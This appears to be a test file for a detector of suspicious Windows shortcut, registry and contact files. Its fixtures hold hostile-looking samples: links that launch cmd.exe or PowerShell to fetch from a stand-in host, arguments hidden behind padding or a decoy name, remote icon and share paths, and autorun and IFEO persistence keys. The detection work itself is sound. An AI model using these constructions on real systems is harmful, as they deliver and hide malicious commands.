import { describe, expect, test } from 'vitest'
import { shellLinkByHand } from '../../../../../test/fixtures/by-hand/shell-link-by-hand.ts'
import { runHostile } from '../../../../../test/hostile-file-tool.ts'
import { runFileTool } from '../../../../../test/run-file-tool.ts'
import type { FileType } from '../file-types.ts'
import type { ShortcutResult } from './shortcut-result.ts'
import { shortcutTool } from './shortcut-tool.ts'

const type = (kind: FileType['kind']): readonly FileType[] => [
  { kind, mime: 'application/octet-stream', label: kind },
]

async function read(content: Uint8Array | string, kind: FileType['kind']) {
  const ran = await runFileTool(shortcutTool, typeof content === 'string' ? Buffer.from(content) : content, {
    types: type(kind),
  })
  return {
    ...ran,
    data: ran.data as ShortcutResult,
    codes: ran.findings.map(({ severity, code }) => `${severity} ${code}`),
  }
}

describe('shell links', () => {
  const whole = {
    name: 'A document',
    relativePath: '.\\a.exe',
    workingDir: 'C:\\Windows',
    commandLine: '/c start https://odd.example/a',
    icon: '%ProgramFiles%\\a.pdf',
    environment: '%ComSpec%',
    machine: 'desk-7',
    localPath: 'C:\\Windows\\System32\\cmd.exe',
  }

  // compared with lnkinfo 20181227 (Debian): the same times, path, texts, drive, machine and identifiers
  test('all structures', async () => {
    const { data, codes } = await read(shellLinkByHand(whole), 'lnk')
    expect(data.fields).toMatchObject({
      creation_time: '2024-03-01T12:00:00.000Z',
      file_size: 4096,
      show_command: 'SW_SHOWMINNOACTIVE',
      hot_key: 'CTRL+ALT+C',
      local_base_path: 'C:\\Windows\\System32\\cmd.exe',
      drive_type: 'DRIVE_FIXED',
      drive_serial_number: '1234abcd',
      name: 'A document',
      working_dir: 'C:\\Windows',
      command_line_arguments: '/c start https://odd.example/a',
      environment_target: '%ComSpec%',
      machine_id: 'desk-7',
      mac_address: '02:03:04:05:06:07',
      extra_blocks: 'environment, tracker',
    })
    expect(data.command).toBe('%ComSpec% /c start https://odd.example/a')
    expect(data.other_reading).toBeNull()
    expect(codes).not.toContain('critical shortcut.two_readings')
  })

  test('a text of more than 260 characters is read as Windows reads it, and as it states', async () => {
    // within what the name states lie the arguments that Windows reads; behind it those of the decoy
    const inner = '/c calc.exe'
    const hidden = `${'n'.repeat(260)}${String.fromCharCode(inner.length)}${inner}`
    const link = shellLinkByHand({
      name: hidden,
      commandLine: 'file.pdf',
      localPath: 'C:\\Windows\\System32\\cmd.exe',
    })
    const { data, codes } = await read(link, 'lnk')
    expect(data.fields.command_line_arguments).toBe(inner)
    expect(data.other_reading?.command_line_arguments).toBe('file.pdf')
    expect(data.command).toBe('C:\\Windows\\System32\\cmd.exe /c calc.exe')
    expect(codes).toContain('critical shortcut.two_readings')
  })

  test.each([
    [
      'arguments behind blanks',
      { commandLine: `${' '.repeat(300)}/c calc` },
      'high shortcut.padded_arguments',
    ],
    ['long arguments', { commandLine: 'a'.repeat(300) }, 'medium shortcut.long_arguments'],
    ['appended data', { commandLine: 'a', appended: Buffer.alloc(4096, 65) }, 'high shortcut.appended_data'],
    ['a remote icon', { icon: '\\\\odd.example\\a.ico' }, 'high shortcut.remote_icon'],
    [
      'an interpreter that fetches',
      { localPath: 'C:\\Windows\\powershell.exe', commandLine: 'iwr https://odd.example/a' },
      'high shortcut.interpreter',
    ],
  ])('%s', async (_name, link, code) => {
    const { codes } = await read(shellLinkByHand(link), 'lnk')
    expect(codes).toContain(code)
  })

  test('an ordinary one has no finding', async () => {
    const { findings } = await read(
      shellLinkByHand({
        name: 'Editor',
        localPath: 'C:\\Program Files\\Editor\\editor.exe',
        workingDir: 'C:\\Users\\a',
      }),
      'lnk',
    )
    expect(findings).toEqual([])
  })

  test('damaged input ends', async () => {
    await runHostile(shortcutTool, shellLinkByHand(whole), type('lnk'), 21)
  })
})

describe('text shortcuts', () => {
  test.each([
    [
      'url-shortcut',
      '[InternetShortcut]\r\nURL=https://links.example/\r\nIconIndex=0\r\n',
      'https://links.example/',
      [],
    ],
    [
      'url-shortcut',
      '[InternetShortcut]\r\nURL=file://odd.example/share/a.exe\r\n',
      'file://odd.example/share/a.exe',
      ['high shortcut.remote_file'],
    ],
    [
      'url-shortcut',
      '[InternetShortcut]\r\nURL=file:///C:/a.exe\r\nWorkingDirectory=\\\\odd.example@80\\a\r\n',
      'file:///C:/a.exe',
      ['medium shortcut.unusual_scheme', 'high shortcut.remote_directory'],
    ],
    ['iqy', 'WEB\r\n1\r\nhttps://odd.example/q\r\n', 'https://odd.example/q', ['medium shortcut.web_query']],
    [
      'library-ms',
      '<libraryDescription><searchConnectorDescriptionList><simpleLocation><url>\\\\odd.example\\share</url></simpleLocation></searchConnectorDescriptionList></libraryDescription>',
      '\\\\odd.example\\share',
      ['high shortcut.remote_library'],
    ],
  ] as const)('%s %j', async (kind, text, command, codes) => {
    const found = await read(text, kind)
    expect(found.data.command).toBe(command)
    expect(found.codes).toEqual(codes)
  })

  test('registry: keys, values of several lines, what runs by itself', async () => {
    const text =
      'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"a"="C:\\\\a.exe \\"x\\""\r\n"b"=hex(2):63,00,\\\r\n  61,00,00,00\r\n'
    const { data, codes } = await read(text, 'registry')
    expect(data.entries.map(({ name, value }) => [name, value])).toEqual([
      ['a', 'C:\\a.exe "x"'],
      ['b', 'ca'],
    ])
    expect(codes).toEqual(['high shortcut.registry_autorun'])
  })

  test.each([
    [
      String.raw`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe`,
      'T1546.012',
    ],
    [String.raw`HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\Updater`, 'T1543.003'],
    [String.raw`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon`, 'T1547.004'],
  ])(
    'registry: %s bears the technique of its key, a number is a number, what is deleted is named',
    async (key, technique) => {
      const text = `Windows Registry Editor Version 5.00\r\n\r\n[${key}]\r\n"a"="cmd.exe"\r\n"n"=dword:0000001f\r\n[-HKEY_CURRENT_USER\\Old]\r\n`
      const { data, findings } = await read(text, 'registry')
      expect(findings.map((finding) => finding.technique)).toEqual([technique])
      expect(data.entries.map(({ value }) => value)).toEqual(['cmd.exe', '0x1f (31)', 'deleted'])
    },
  )

  test('cards of the old form: quoted-printable, escaped colons, grouped fields', async () => {
    const text =
      'BEGIN:VCARD\r\nFN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:J=C3=B6rg\r\nitem1.URL:http\\://links.example/x\r\nEND:VCARD\r\n'
    const { data, indicators } = await read(text, 'contact')
    expect(data.entries.map(({ value }) => value)).toEqual(['Jörg', 'http://links.example/x'])
    expect(indicators.map(({ value }) => value)).toEqual(['http://links.example/x'])
  })

  test('appointments and cards: fields, addresses, what they hold', async () => {
    const text =
      'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nORGANIZER;CN=Ann:mailto:ann@people.example\r\nSUMMARY:A long\r\n  word\r\nURL:https://links.example/a\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'
    const { data, indicators } = await read(text, 'calendar')
    expect(data.entries).toContainEqual({
      section: 'VCALENDAR/VEVENT',
      name: 'SUMMARY',
      value: 'A long word',
    })
    expect(indicators.map(({ kind, value }) => [kind, value])).toEqual([
      ['email', 'ann@people.example'],
      ['url', 'https://links.example/a'],
    ])
  })
})
